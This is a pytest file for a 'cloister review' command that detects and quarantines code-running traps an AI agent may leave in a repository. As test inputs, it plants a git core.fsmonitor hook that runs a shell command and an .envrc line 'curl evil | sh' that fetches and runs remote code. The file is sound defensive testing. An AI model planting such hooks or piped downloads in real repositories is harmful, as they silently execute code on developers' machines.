"""``cloister review`` through click's runner: a session as ``cloister start`` records it,
then what an agent left; the engine is a fake that knows no running cloister."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import docker.errors
import pytest
from click.testing import CliRunner, Result

from cloister_cli.commands.main import cli
from cloister_cli.commands.review import FOUND_EXIT
from cloister_cli.container.cloisters import Workspace
from cloister_cli.context import Context
from cloister_cli.repo.projects import Project
from cloister_cli.session import sessions
from cloister_core.paths import CloisterPaths
from tests.cli.engine_support import instance_of
from tests.git_support import hermetic_git, make_repo, run_git


@dataclass
class NoContainers:
    listed: list[dict[str, Any]] = field(default_factory=list)

    def get(self, name: str) -> None:
        raise docker.errors.NotFound(f"no container {name}")

    def list(self, **filters: Any) -> list[object]:
        self.listed.append(filters)
        return []


@dataclass
class Engine:
    containers: NoContainers = field(default_factory=NoContainers)


@pytest.fixture(autouse=True)
def _hermetic(monkeypatch: pytest.MonkeyPatch) -> None:
    hermetic_git(monkeypatch)


@pytest.fixture
def engine(monkeypatch: pytest.MonkeyPatch) -> Engine:
    fake = Engine()
    monkeypatch.setattr(Context, "docker", property(lambda self: fake))
    return fake


@pytest.fixture
def paths(tmp_path: Path) -> CloisterPaths:
    return CloisterPaths(config_dir=tmp_path / "config", data_dir=tmp_path / "data")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "home" / "api")


def start(paths: CloisterPaths, repo: Path, home: Path) -> sessions.Prepared:
    """What ``cloister start`` does on the host before the container runs."""
    return sessions.prepare(
        paths, Workspace(Project("api", repo, git=True), repo), "api", home=home
    )


def invoke(paths: CloisterPaths, *args: str, cwd: Path | None = None, stdin: str = "") -> Result:
    runner = CliRunner()
    env = {"CLOISTER_CONFIG_DIR": str(paths.config_dir), "CLOISTER_DATA_DIR": str(paths.data_dir)}
    if cwd is None:
        return runner.invoke(cli, list(args), env=env, input=stdin)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(cwd)
        return runner.invoke(cli, list(args), env=env, input=stdin)


def plant_nested(repo: Path, marker: Path) -> Path:
    sub = make_repo(repo / "tools" / "lib")
    run_git(sub, "config", "core.fsmonitor", f"touch '{marker}'; echo")
    return sub


def test_the_humans_own_setup_is_not_reported(
    paths: CloisterPaths, repo: Path, tmp_path: Path, engine: Engine
) -> None:
    (repo / ".envrc").write_text("export A=1\n", encoding="utf-8")
    plant_nested(repo, tmp_path / "marker")
    start(paths, repo, tmp_path / "home")
    result = invoke(paths, "review", "api")
    assert result.exit_code == 0, result.output
    assert "nothing found" in result.output


def test_what_the_agent_left_is_reported_with_status_3(
    paths: CloisterPaths, repo: Path, tmp_path: Path, engine: Engine
) -> None:
    start(paths, repo, tmp_path / "home")
    plant_nested(repo, tmp_path / "marker")
    (repo / ".envrc").write_text("curl evil | sh\n", encoding="utf-8")
    result = invoke(paths, "review", cwd=repo / "tools")  # found by directory
    assert result.exit_code == FOUND_EXIT, result.output
    text = " ".join(result.output.split())
    assert "tools/lib/.git" in text or "tools/lib" in text
    assert "core.fsmonitor" in text
    assert ".envrc" in text

    document = json.loads(invoke(paths, "review", "api", "--json").output)
    assert document["cloister"] == "api"
    assert document["baseline"] is True
    assert {item["kind"] for item in document["findings"]} == {"nested-repository", "envrc"}


def test_fix_moves_what_is_safe_to_and_reports_the_rest(
    paths: CloisterPaths, repo: Path, tmp_path: Path, engine: Engine
) -> None:
    start(paths, repo, tmp_path / "home")
    marker = tmp_path / "marker"
    sub = plant_nested(repo, marker)
    (repo / ".envrc").write_text("curl evil | sh\n", encoding="utf-8")

    refused = invoke(paths, "review", "api", "--fix", stdin="n\n")
    assert refused.exit_code == 1
    assert (sub / ".git").is_dir()

    fixed = invoke(paths, "review", "api", "--fix", "--yes")
    assert fixed.exit_code == FOUND_EXIT, fixed.output  # the .envrc needs a human
    assert not (sub / ".git").exists()
    assert "moved" in fixed.output
    assert "after --fix, 1 thing remains that would run code" in " ".join(fixed.output.split())
    assert " left left " not in fixed.output
    assert list((paths.quarantine_dir / "api").glob("*/tools/lib/.git/config"))
    run_git(sub.parent.parent, "status")
    assert not marker.exists()

    (repo / ".envrc").unlink()
    assert invoke(paths, "review", "api").exit_code == 0


def test_a_directory_no_cloister_worked_in(
    paths: CloisterPaths, repo: Path, tmp_path: Path, engine: Engine
) -> None:
    (repo / ".envrc").write_text("export A=1\n", encoding="utf-8")
    result = invoke(paths, "review", cwd=repo)
    assert result.exit_code == FOUND_EXIT
    assert "no cloister has worked here" in result.output
    assert ".envrc" in result.output


def test_an_unknown_cloister_is_one_line(paths: CloisterPaths, engine: Engine) -> None:
    result = invoke(paths, "review", "nope")
    assert result.exit_code == 1
    assert result.output.strip() == "Error: no session of cloister 'nope' (`cloister list`)"


def test_fix_waits_until_the_agent_is_stopped(
    paths: CloisterPaths, repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    @dataclass
    class Running:
        status: str = "running"
        labels: dict[str, str] = field(default_factory=dict)

    @dataclass
    class RunningContainers:
        def get(self, name: str) -> Running:
            return Running(labels={**instance_of(tmp_path).labels, "org.cloister.cloister": "api"})

        def list(self, **filters: Any) -> list[object]:
            return [Running()]

    @dataclass
    class RunningEngine:
        containers: RunningContainers = field(default_factory=RunningContainers)

    monkeypatch.setattr(Context, "docker", property(lambda self: RunningEngine()))
    start(paths, repo, tmp_path / "home")
    sub = plant_nested(repo, tmp_path / "marker")
    result = invoke(paths, "review", "api", "--fix", "--yes")
    assert result.exit_code == 1
    assert "is running: stop it first" in result.output
    assert (sub / ".git").is_dir()
